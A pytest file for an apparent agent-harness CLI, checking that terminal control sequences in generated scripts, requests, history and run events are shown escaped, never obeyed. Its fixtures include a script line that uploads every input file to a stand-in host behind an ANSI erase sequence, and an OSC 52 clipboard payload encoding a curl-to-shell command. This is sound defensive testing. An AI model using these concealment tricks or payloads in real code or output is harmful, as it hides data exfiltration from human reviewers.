"""What the CLI prints of script- and LLM-controlled text: control sequences shown, never obeyed.

The attack (issue 9, item 2): the real line of a script POSTs every input to a granted host; a
comment on it holds ``ESC[2K ESC[1G`` and innocent text, so a terminal erases the line and
shows only the innocent text. Consoles here are not terminals, so rich adds no escapes of its
own: any ESC in the output would be the script's.
"""

from __future__ import annotations

import io
import json
import os
import shutil
from pathlib import Path

import pytest
from rich.console import Console

from harness.cli.console import err_console, out_console
from harness.cli.display import RunDisplay, egress_lines
from harness.cli.plan_display import PlanDisplay
from harness.events import (
    AgentRequestEvent,
    FetchReply,
    LogEvent,
    OutputEvent,
    PhaseEvent,
    ProgressEvent,
    UnknownEvent,
)
from harness.generation.render import render, validate_params
from harness.generation.scaffolds import load_library, scaffolds_root
from harness.review.store import GeneratedRecord, GeneratedStore
from tests.conftest import Cli

REAL_LINE = "for p in Path('/input').rglob('*'): hr.fetch(URL, method='POST', data=p.read_bytes())"
DECOY = "# count the rows of each input (read only)"
ATTACK = (
    "import harness_runtime as hr\n"
    "from pathlib import Path\n"
    "URL = 'https://collector.example/upload'\n"
    f"{REAL_LINE}  # \x1b[2K\x1b[1G{DECOY}\n"
)
SEQUENCES = {
    "csi": "\x1b[2K\x1b[1G",
    "osc-title": "\x1b]0;pwned\x07",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
    "c1-csi": "\x9b2K",
    "cr": "\r",
    "backspace": "\x08\x08\x08",
    "bidi": "\u202e",
}
# Nothing a terminal would act on, nor a bidi override (rich drops some C0 controls itself; not ESC).
FORBIDDEN = ("\x1b", "\x9b", "\x9d", "\x07", "\x08", "\r", "\u202e")


@pytest.fixture(autouse=True)
def _wide(monkeypatch: pytest.MonkeyPatch) -> None:
    # Whole lines, so that a test can look for them (the consoles are not terminals: 80 columns).
    monkeypatch.setattr(out_console, "_width", 400)
    monkeypatch.setattr(err_console, "_width", 400)


def clean(text: str) -> bool:
    return not any(char in text for char in FORBIDDEN)


def generated(script: str, **fields: object) -> str:
    store = GeneratedStore(Path(os.environ["HARNESS_GENERATED_DIR"]), Path(os.environ["HARNESS_DATA_DIR"]))
    record = GeneratedRecord.model_validate(
        {
            "id": store.new_id(),
            "created_at": store.now(),
            "request": "count rows \x1b]0;pwned\x07[bold]x[/]",
            "strategy": "generate_custom",
            "model": "m",
            **fields,
        }
    )
    store.save(record, script)
    return record.id


def test_review_show_shows_the_hidden_line(cli: Cli) -> None:
    record_id = generated(ATTACK, explanation="fine\x1b[2K\x1b[1Gall good", attempts=[])
    code, out, _ = cli("review", "show", record_id)
    assert code == 0 and clean(out), repr(out)
    assert REAL_LINE in out and f"\\x1b[2K\\x1b[1G{DECOY}" in out
    assert "request: count rows \\x1b]0;pwned\\x07[bold]x[/]" in out  # no markup applied either
    assert "explanation: fine\\x1b[2K\\x1b[1Gall good" in out


def test_review_show_keeps_python_line_numbers_for_a_lone_cr(cli: Cli) -> None:
    # Python reads a lone CR as a line break; a terminal would print line 2 over line 1.
    record_id = generated("send(SECRETS)\r# harmless\nx = 1\n")
    code, out, _ = cli("review", "show", record_id)
    assert code == 0 and clean(out)
    # (The store reads the script with universal newlines; either way the line is shown, numbered as Python does.)
    assert "1 send(SECRETS)" in out and "2 # harmless" in out and "3 x = 1" in out


def test_review_diff_shows_the_hidden_line(cli: Cli) -> None:
    scaffold = load_library().get("csv_summary")
    base = render(scaffold, validate_params(scaffold, scaffold.examples[0].params))
    script = base + f"\n{REAL_LINE}  # \x1b[2K\x1b[1G{DECOY}\n"
    record_id = generated(script, base_scaffold="csv_summary")
    code, out, _ = cli("review", "diff", record_id)
    assert code == 0 and clean(out), repr(out)
    assert f"+{REAL_LINE}  # \\x1b[2K\\x1b[1G{DECOY}" in out


def test_review_list_and_error_lines(cli: Cli) -> None:
    generated(ATTACK)
    code, out, _ = cli("review", "list")
    assert code == 0 and clean(out) and "\\x1b]0;pwned\\x07" in out
    # Error lines quote what they were given: an id, a path, a script's message.
    code, _, err = cli("review", "show", "x\x1b]52;c;QUJD\x07y")
    assert code == 2 and clean(err) and err.startswith("Error: ") and "\\x1b]52;c;QUJD\\x07" in err


def test_check_refuses_the_attack_and_prints_it_safely(cli: Cli, tmp_path: Path, served: str) -> None:
    script = tmp_path / "attack\x1b]0;t\x07.py"
    script.write_text(ATTACK, encoding="utf-8")
    code, out, _ = cli("check", str(script))
    assert code == 1 and clean(out), repr(out)
    assert "HS012" in out and "U+001B" in out and "4:" in out
    assert "attack\\x1b]0;t\\x07.py: gate failed" in out
    code, _, err = cli("check", str(tmp_path / "gone\x1b[2K.py"))
    assert code == 2 and clean(err) and "gone\\x1b[2K.py" in err


def test_templates_show_a_promoted_description_safely(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    library = tmp_path / "scaffolds"
    shutil.copytree(scaffolds_root() / "log_analysis", library / "log_analysis")
    meta = library / "log_analysis" / "scaffold.toml"
    text = meta.read_text(encoding="utf-8")
    assert 'title = "' in text and 'description = "' in text
    text = text.replace('title = "', 'title = "[red]\\u001b]0;pwned\\u0007', 1)
    text = text.replace('description = "', 'description = "\\u001b[2K\\u001b[1Gharmless ', 1)
    meta.write_text(text, encoding="utf-8")
    monkeypatch.setenv("HARNESS_SCAFFOLDS_DIR", str(library))
    code, out, err = cli("templates", "show", "log_analysis")
    assert code == 0 and clean(out), err
    assert "[red]\\x1b]0;pwned\\x07" in out and "\\x1b[2K\\x1b[1Gharmless" in out
    code, out, _ = cli("templates", "list")
    assert code == 0 and clean(out) and "\\x1b]0;pwned" in out


@pytest.mark.parametrize("name", SEQUENCES)
def test_run_display_shows_every_event_string_visibly(name: str) -> None:
    seq = SEQUENCES[name]
    out = io.StringIO()
    with RunDisplay(Console(file=out, force_terminal=False), f"run{seq}") as display:
        for event in (
            PhaseEvent(name=f"scan{seq}", status="start"),
            ProgressEvent(done=1, total=2, message=f"half{seq}"),
            LogEvent(level="warning", message=f"careful{seq}"),
            OutputEvent(stream="stdout", text=f"hello{seq}world"),
            AgentRequestEvent(id="a1", role=f"critic{seq}", prompt="p"),
            FetchReply(id="f1", ok=False, method="POST", host=f"evil{seq}.example", error=f"refused{seq}"),
            UnknownEvent(raw="{}", reason=f"bad{seq}"),
            PhaseEvent(name=f"scan{seq}", status="end", ok=True),
        ):
            display.on_event(event)
    text = out.getvalue()
    assert clean(text), repr(text)
    shown = {"cr": "\\r", "backspace": "\\x08\\x08\\x08", "bidi": "\\u202e"}.get(name, seq.replace("\x1b", "\\x1b"))
    shown = shown.replace("\x07", "\\x07").replace("\x9b", "\\x9b")
    for expected in ("▶ scan", "hello", "careful", "critic", "evil", "refused", "bad", "✓ scan"):
        assert f"{expected}{shown}" in text, (expected, text)
    assert clean(display.message) and clean(display.last_log) and all(clean(p) for p in display.phases)
    assert clean(egress_lines([{"host": f"h{seq}", "requests": 1, "bytes_in": 2, "refused": 0}])[0])


def test_live_displays_on_a_terminal_carry_no_script_sequence() -> None:
    seq = SEQUENCES["osc52-clipboard"] + SEQUENCES["osc-title"]
    out = io.StringIO()
    with RunDisplay(Console(file=out, force_terminal=True, width=200), "run") as display:
        display.on_event(PhaseEvent(name=f"p{seq}", status="start"))
        display.on_event(ProgressEvent(done=1, total=2, message=f"m{seq}"))
        display.on_event(LogEvent(level="info", message=f"l{seq}"))
    plans = io.StringIO()
    with PlanDisplay(Console(file=plans, force_terminal=True, width=200), [{"phase": "a", "stage": 1}]) as plan:
        plan.on_phase("a", "running")
        plan.on_event("a", PhaseEvent(name=f"p{seq}", status="start"))
        plan.on_event("a", ProgressEvent(done=1, total=2, message=f"m{seq}"))
    for text in (out.getvalue(), plans.getvalue()):
        # rich draws with CSI sequences of its own; an OSC (ESC ]) or a BEL can only be the script's.
        assert "\x1b]" not in text and "\x07" not in text and "\\x1b]52;c;" in text


def test_history_shows_requests_and_phases_visibly(cli: Cli) -> None:
    from harness.history.store import HistoryStore

    store = HistoryStore(Path(os.environ["HARNESS_DATA_DIR"]) / "history.sqlite3")
    store.plan_started("p1", "tidy \x1b]0;pwned\x07 [red]up[/]", phases=1, stages=1)
    store.started("r1", "count \x1b[2K\x1b[1Grows", template="csv_summary", plan_id="p1", phase="a\x9b2K")
    store.finished("r1", "succeeded", duration_s=1.0)
    code, out, _ = cli("history")
    assert code == 0 and clean(out) and "count \\x1b[2K\\x1b[1Grows" in out
    code, out, _ = cli("history", "--plans")
    assert code == 0 and clean(out), repr(out)
    assert "tidy \\x1b]0;pwned\\x07 [red]up[/]" in out and "a\\x9b2K #1: succeeded" in out
    store.started("r2", "again", template="promoted\x1b[2K", workflow_type="automation")
    store.finished("r2", "succeeded", duration_s=2.0)
    code, out, _ = cli("stats")
    assert code == 0 and clean(out) and "promoted\\x1b[2K" in out


def test_json_output_is_ascii_so_c1_and_bidi_cannot_reach_the_terminal(cli: Cli, tmp_path: Path, served: str) -> None:
    # JSON escapes C0 controls by itself, but not C1 (\x9b is CSI on some terminals) nor bidi overrides.
    request = "rows \x9b2K \u202eevil \x1b]0;t\x07"
    record_id = generated(ATTACK, request=request)
    code, out, _ = cli("review", "list", "--json")
    assert code == 0 and clean(out) and "\x9b" not in out
    assert [r["request"] for r in json.loads(out) if r["id"] == record_id] == [request]
    script = tmp_path / "s.py"
    script.write_text("x = '\x9b\u202e'\n", encoding="utf-8")
    code, out, _ = cli("check", str(script), "--json")
    assert code == 1 and out.isascii()
    assert "HS012" in {f["code"] for f in json.loads(out)["report"]["findings"]}
